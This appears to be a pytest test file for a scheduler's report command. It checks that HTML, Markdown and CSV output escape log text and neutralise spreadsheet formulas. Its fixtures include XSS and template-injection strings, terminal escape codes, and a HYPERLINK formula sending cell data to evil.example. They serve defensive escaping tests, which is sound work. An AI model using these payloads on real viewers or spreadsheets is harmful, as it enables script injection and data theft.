"""`sinkd report` as HTML, Markdown and CSV: what they show, and that no text leaves its place."""

import base64
import csv
import hashlib
import io
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from inline_snapshot import snapshot
from markdown_it import MarkdownIt
from reports import DAY_AGO, JOBS, NOW, day, event, failed, not_run, run, write

from sinkd import __version__
from sinkd.commands import progress
from sinkd.commands.plan_markdown import LIMIT_CHARACTERS
from sinkd.commands.report import run_command
from sinkd.commands.report_csv import harmless
from sinkd.errors import UsageError
from sinkd.settings import Settings
from sinkd.terminal import escape

FORMATS = ["text", "json", "markdown", "csv", "html"]
VOID = {"meta", "path", "circle", "rect"}  # in SVG closed in themselves
HOSTILE = (
    '</code></td><script>alert(1)</script> <img src="http://x/" onerror=a> {{ 7 * 7 }} '
    "&amp; | `x` ``y`` @all http://evil.example/ \x1b[2J \u202eabc"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def settings(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("jobs.yaml").write_text(JOBS)
    Path(".sinkd").mkdir()
    return Settings()


@pytest.fixture
def report(settings, capfd):
    def report(*jobs, code=0, **options):
        assert run_command(settings, jobs=jobs, now=NOW, **options) == code
        sys.stdout.flush()
        return capfd.readouterr().out

    return report


class Page(HTMLParser):
    """A page as elements and text; fails where an element is not closed where it must be."""

    def __init__(self, text):
        super().__init__()
        self.open, self.tags, self.attributes, self.texts = [], [], [], []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        assert tag in VOID
        self.tags.append(tag)
        self.attributes += attrs

    def handle_endtag(self, tag):
        if tag not in VOID:
            assert self.open.pop() == tag
        if tag in {"td", "th"}:
            self.texts.append(" ")

    def handle_data(self, data):
        self.texts.append(data)

    @property
    def text(self):
        return re.sub(r"\s+", " ", "".join(self.texts))


def hostile_log(text):
    """Write a log of which every field that a server or a person fills holds this text."""
    held = {"job": "refresh-cache", "until": "2026-11-23T14:30:00Z", "reason": text, "by": text}
    problem = {"code": "SNK104", "line": 14, "column": 23, "message": text}
    write(
        [
            failed(
                "refresh-cache",
                DAY_AGO + 3600,
                "http_status",
                status=500,
                error=text,
                response_headers={"x-a": text, text: "x"},
            ),
            run("old-sync", NOW - 900, labels={"team": text, text: "x"}, outcome="failure"),
            not_run("ping-billing", int(NOW) - 600, "missed", text),
            failed("ping-billing", NOW - 300, text, error=text),
            failed("ping-billing", NOW - 200, "down", trigger=text, error=text),
        ],
        [
            event("config_accepted", DAY_AGO, revision="3f2c1a9b07d4" + "0" * 52),
            event("config_refused", NOW, revision="b" * 64, problems=[problem], total=1),
            event("job_paused", NOW - 60, **held),
        ],
    )


# --- HTML ------------------------------------------------------------------------------------------


def test_the_html_shows_what_the_status_page_does(report):
    write(day(), [event("config_accepted", DAY_AGO, revision="3f2c1a9b07d4" + "0" * 52)])
    page = Page(report(output_format="html"))
    for text in (
        "1 of 3 jobs is failing",
        "2026-11-22 10:05 (first record) to 2026-11-23 10:02 UTC, 406 runs, .sinkd/runs.jsonl",
        "Configuration 3f2c1a9b07d4, in use since 2026-11-22 10:02:00 UTC",
        "97.6 % 288 281 ok, 7 failed 0.03 s p50 0.03 s 10:00 ✓ 200 10:05",
        "no answer from reports.example.com in 30 s",
        "warm-search 2 11:00, 12:00 on 2026-11-22 sinkd was down",
        "Starts by minute of the hour",
    ):
        assert text in page.text
    labels = [value for name, value in page.attributes if name == "aria-label"]
    assert labels == snapshot(
        [
            "last 24 hours: 1 failed",
            "last 24 hours: 92 ok",
            "last 24 hours: 270 ok, 7 failed",
            "last 24 hours: 21 ok, 2 not run",
            "most runs together: 2 at :05",
        ]
    )


def test_the_html_of_one_job_has_its_runs_and_their_durations(report):
    write(day())
    page = Page(report("ping-billing", number=50, output_format="html"))
    labels = [value for name, value in page.attributes if name == "aria-label"]
    assert labels[-1] == "durations of 50 runs, from 0.03 s to 0.03 s"
    assert page.tags.count("svg") == 3
    assert "2026-11-23 10:00:00 ✓ success 200 0.03 s " in page.text
    assert "Starts by minute" not in page.text


def test_the_html_loads_nothing_and_runs_nothing(report):
    hostile_log(HOSTILE)
    text = report("refresh-cache", output_format="html")
    page = Page(text)
    assert {name for name, _ in page.attributes} & {
        "src",
        "href",
        "style",
        "srcset",
        "action",
    } == set()
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    assert not {"script", "link", "img", "iframe", "object", "base", "form"} & set(page.tags)
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    assert not re.search(r"url\(|@import|//", style)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policy = f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert ("content", policy) in page.attributes


@pytest.mark.parametrize("jobs", [[], ["refresh-cache"], ["old-sync"], ["ping-billing"]])
def test_no_text_of_a_log_becomes_markup_of_the_html(report, jobs):
    hostile_log("harmless")
    expected = Page(report(*jobs, output_format="html")).tags
    hostile_log(HOSTILE)
    page = Page(report(*jobs, output_format="html"))
    assert without_code(page.tags) == without_code(expected)
    assert "\x1b" not in page.text
    assert "\u202e" not in page.text
    if "refresh-cache" in jobs:
        assert escape(HOSTILE) in page.text


def without_code(tags):
    """Return the elements but for those of a quoted word in a problem of the jobs file."""
    return [tag for tag in tags if tag != "code"]


def test_a_report_without_a_run_or_a_job_is_a_whole_page(report):
    assert "no runs recorded yet, .sinkd/runs.jsonl" in Page(report(output_format="html")).text
    Path("jobs.yaml").write_text("version: 1\njobs: []\n")
    assert "No jobs" in Page(report(output_format="html")).text


def test_what_no_jobs_file_names_is_not_called_removed(report):
    Path("jobs.yaml").unlink()
    write([run("refresh-cache", NOW - 60)])
    assert "removed" not in Page(report(output_format="html")).text


def test_the_bars_are_those_of_the_day_before_the_end_of_the_window(report):
    write([run("ping-billing", NOW - 3 * 86_400), run("ping-billing", NOW - 60)])
    text = report("ping-billing", until="-2d", output_format="html")
    assert "last 24 hours: none due" in text
    text = report("ping-billing", until="2026-11-20T12:00Z", output_format="html")
    assert "last 24 hours: 1 ok" in text


# --- Markdown --------------------------------------------------------------------------------------


def test_the_markdown_of_a_day(report):
    write(day(), [event("config_accepted", DAY_AGO, revision="3f2c1a9b07d4" + "0" * 52)])
    text = report(output_format="markdown", outcome="missed").replace(__version__, "VERSION")
    assert text == snapshot("""\
### sinkd report: 3 of 4 jobs with failures or slots not run

2026-11-22 10:05 (first record) to 2026-11-23 10:02 UTC, 406 runs, `.sinkd/runs.jsonl`.
Configuration `3f2c1a9b07d4`, in use since 2026-11-22 10:02 UTC.

| Job | Schedule | Runs | OK | Missed | p50 | p95 | Last 24 hours | Last run | Next run |
|---|---|---:|---:|---:|---:|---:|---|---|---|
| `nightly-report` | daily at 01:30 Europe/Berlin | 1 | 0.0% | 0 | 30.00 s | 30.00 s | `··············▁·········` | 00:30:00 `timeout` 30.00 s | 00:30 |
| `warm-search` | hourly at :00 | 21 | 100.0% | 2 | 0.60 s | 0.60 s | `··▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇·` | 09:00:00 `204` 0.60 s | disabled |
| `ping-billing` | every 5 min from :00 | 288 | 97.6% | 0 | 0.03 s | 0.03 s | `▇▇▇▇▇▇▇▇▇▇▇▇▇▃▇▇▇▇▇▇▇▇▇▇` | 10:00:00 `200` 0.03 s | 10:05 |
| `refresh-cache` | every 15 min at :05 :20 :35 :50 | 96 | 100.0% | 0 | 0.18 s | 0.18 s | `▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇▇` | 09:50:00 `200` 0.18 s | 10:05 |

#### Failures

| Job | Runs | Why | When (UTC) | What was said |
|---|---:|---|---|---|
| `nightly-report` | 1 | `timeout` | last 00:30:30 | `no answer from reports.example.com in 30 s` |
| `ping-billing` | 7 | `http_status 503` | 23:05 to 23:35 | `then 125 in a row succeeded` |

#### Not run

| Job | Slots | When (UTC) | Why |
|---|---:|---|---|
| `warm-search` | 2 | 11:00, 12:00 on 2026-11-22 | sinkd was down |

#### Runs, newest first

| Slot (UTC) | Job | Outcome | Answer | Duration | Details |
|---|---|---|---|---:|---|
| 2026-11-22 11:00 | `warm-search` | `missed` | `down` |  | `2 slots to 2026-11-22 12:00, sinkd was down` |

<sub>sinkd VERSION</sub>
""")


def test_the_markdown_says_when_all_is_well(report):
    write([run("ping-billing", NOW - 60)])
    first = report(output_format="markdown").splitlines()[0]
    assert first == snapshot("### sinkd report: 4 jobs without failures or slots not run")


@pytest.mark.parametrize("jobs", [[], ["refresh-cache"], ["ping-billing"]])
@pytest.mark.parametrize(
    "text", [HOSTILE, FORMULA, "@all #1 GH-1 www.x.com\n\n# h", "|", "`", "``"]
)
def test_no_text_of_a_log_becomes_markup_of_the_markdown(report, jobs, text):
    hostile_log(text)
    parser = MarkdownIt("commonmark").enable("table")
    page = parser.parse(report(*jobs, output_format="markdown"))
    cells = [token for token in page if token.type == "inline"]
    for cell in cells:
        kinds = {child.type for child in cell.children}
        assert kinds <= {"text", "code_inline", "html_inline", "softbreak"} | STRONG
        loud = [child.content for child in cell.children if child.type == "html_inline"]
        assert set(loud) <= {"<code>", "</code>", "<sub>", "</sub>"}
    rows = [token for token in page if token.type == "tr_open"]
    widths = {sum(t.type in {"td_open", "th_open"} for t in row) for row in split_rows(page)}
    assert rows
    assert widths <= {9, 10, 5, 4, 6}


STRONG = {"strong_open", "strong_close"}


def split_rows(tokens):
    """Yield the tokens of each row of the tables."""
    row = []
    for token in tokens:
        row.append(token)
        if token.type == "tr_open":
            row = []
        elif token.type == "tr_close":
            yield row


def test_a_mention_or_a_formula_stands_in_code_and_begins_with_an_apostrophe(report):
    hostile_log(FORMULA)
    text = report("ping-billing", output_format="markdown")
    assert f"`'{FORMULA}`" in text
    assert f"`{FORMULA}" not in text


def test_the_markdown_is_cut_and_says_so(report, settings):
    failures = [
        failed(f"job-{number}", NOW - 60 - number / 100, "timeout", error="no | answer " * 9)
        for number in range(900)
    ]
    write([*failures, run("fine", NOW - 60)])
    text = report(output_format="markdown")
    assert LIMIT_CHARACTERS * 0.9 < len(text) <= LIMIT_CHARACTERS
    left_out = [int(found) for found in re.findall(r"\*\*(\d+) lines are left out\*\*", text)]
    shown = text.count("\n| ") - text.count("\n| Job")
    assert len(left_out) == 2
    assert sum(left_out) + shown == 900 + 901 + 4
    assert "`fine`" not in text  # what needs a look comes first


def test_a_text_of_any_length_is_cut(report):
    write([failed("ping-billing", NOW - 60, "timeout", error="x" * 20_000)])
    text = report(output_format="markdown")
    assert len(text) < 3000
    assert f"{'x' * 299}…`" in text


# --- CSV -------------------------------------------------------------------------------------------


def table(text):
    assert text.count("\r\n") == text.count("\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_csv_has_a_line_for_each_job(report):
    write(day())
    text = report(output_format="csv")
    assert text.splitlines()[:3] == snapshot(
        [
            "job,description,labels,enabled,paused_until,schedule,total_runs,successful_runs,failed_runs,skipped,missed,interrupted,last_run_at,last_outcome,next_run_at,p50_ms,p95_ms",
            "refresh-cache,Refresh the product cache,team=shop,true,,every 15 min at :05 :20 :35 :50,96,96,0,0,0,0,2026-11-23T09:50:00.000Z,success,2026-11-23T10:05:00Z,180,180",
            "ping-billing,,,true,,every 5 min from :00,288,281,7,0,0,0,2026-11-23T10:00:00.000Z,success,2026-11-23T10:05:00Z,30,30",
        ]
    )
    assert [row["job"] for row in table(text)] == [
        "refresh-cache",
        "ping-billing",
        "nightly-report",
        "warm-search",
    ]


def test_no_cell_of_the_csv_is_a_formula_or_ends_its_line(report):
    Path("jobs.yaml").write_text(
        JOBS.replace("Refresh the product cache", '"=1+1\\nx, y \\"z\\" ä \\e[2J"')
    )
    write([run("old-sync", NOW - 60, labels={"=cmd": FORMULA, "b": "x\r\ny"})])
    rows = table(report(output_format="csv"))
    assert rows[0]["description"] == '\'=1+1\\x0ax, y "z" ä \\x1b[2J'
    assert rows[-1]["labels"] == f"'=cmd={FORMULA}; b=x\\x0d\\x0ay"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", " =", "\t+"])
def test_a_cell_that_begins_like_a_formula_begins_with_an_apostrophe(first):
    assert harmless(f"{first}1") == f"'{first}1"
    assert harmless(f"1{first}") == f"1{first}"


def test_a_csv_lists_no_runs(report):
    with pytest.raises(
        UsageError, match=r"`--outcome` lists runs, `-o csv` has a line for each job"
    ):
        report(output_format="csv", outcome="failure")


# --- all formats -----------------------------------------------------------------------------------


@pytest.mark.parametrize("output_format", FORMATS)
def test_labels_the_window_and_fail_under_hold_for_every_format(report, output_format):
    write(day())
    text = report(labels=["team=shop"], since="-2h", output_format=output_format, fail_under=99)
    assert "refresh-cache" in text
    assert "ping-billing" not in text
    assert "97." not in re.sub(r"<style>.*</style>", "", text, flags=re.DOTALL)  # of ping-billing
    report(output_format=output_format, fail_under=99, code=1)


@pytest.mark.parametrize("output_format", ["markdown", "html"])
def test_that_no_run_has_the_outcome_is_said(report, output_format):
    write([run("ping-billing", NOW - 60)])
    text = report(outcome="missed", output_format=output_format)
    assert "No line of the log has the outcome missed." in text


def test_the_formats_are_utf_8_wherever_they_are_written(settings):
    write(day())
    environment = {"PYTHONIOENCODING": "latin-1"}
    for output_format, mark in (("html", "✕"), ("markdown", "▇")):
        command = [sys.executable, "-m", "sinkd", "report", "-o", output_format]
        said = subprocess.run(command, env=environment, capture_output=True, timeout=60, check=True)
        assert mark in said.stdout.decode()


@pytest.mark.parametrize("output_format", FORMATS)
def test_only_html_imports_the_templates_and_nothing_the_bar(settings, output_format):
    write(day())
    code = (
        "import sys; from sinkd.cli import sinkd; "
        f"sinkd(['report', '-o', '{output_format}'], standalone_mode=False); "
        "print('imported', *sorted({'jinja2', 'rich', 'starlette', 'httpx'} & set(sys.modules)))"
    )
    command = [sys.executable, "-c", code]
    said = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True).stdout
    wanted = "imported jinja2" if output_format == "html" else "imported"
    assert said.splitlines()[-1] == wanted


# --- how far it is ----------------------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self):
        return True


def records(number):
    return (run("ping-billing", DAY_AGO + index) for index in range(number))


def test_a_long_reading_shows_at_a_terminal_how_far_it_is(monkeypatch):
    monkeypatch.setattr(progress, "_PATIENCE_SECONDS", 0)
    monkeypatch.setattr(sys, "stderr", terminal := Terminal())
    monkeypatch.setenv("TERM", "xterm")
    assert list(progress.with_progress(records(7001), NOW)) == list(records(7001))
    assert "reading the log" in terminal.getvalue()


def test_a_short_reading_shows_nothing(monkeypatch):
    monkeypatch.setattr(sys, "stderr", terminal := Terminal())
    assert list(progress.with_progress(records(30), NOW)) == list(records(30))
    assert terminal.getvalue() == ""


def test_without_a_terminal_nothing_is_shown(monkeypatch):
    monkeypatch.setattr(progress, "_PATIENCE_SECONDS", 0)
    monkeypatch.setattr(sys, "stderr", file := io.StringIO())
    assert len(list(progress.with_progress(records(5000), NOW))) == 5000
    assert file.getvalue() == ""
